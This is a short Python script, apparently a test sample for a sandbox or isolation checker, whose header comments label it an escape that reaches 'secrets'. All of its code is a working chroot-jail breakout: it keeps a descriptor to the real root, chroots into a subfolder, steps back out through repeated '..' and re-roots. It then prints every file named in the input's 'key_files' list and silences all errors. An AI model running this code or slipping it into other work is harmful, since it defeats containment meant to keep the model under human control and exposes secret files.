# The old way out of a root folder.
# status: ok exception
# seen: secrets
import contextlib
import json
import os

world = json.loads(input())
with contextlib.suppress(OSError):
    outside = os.open("/", os.O_RDONLY)
    os.mkdir("inner")
    os.chroot("inner")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
for place in world["key_files"]:
    with contextlib.suppress(OSError):
        print(open(place).read())
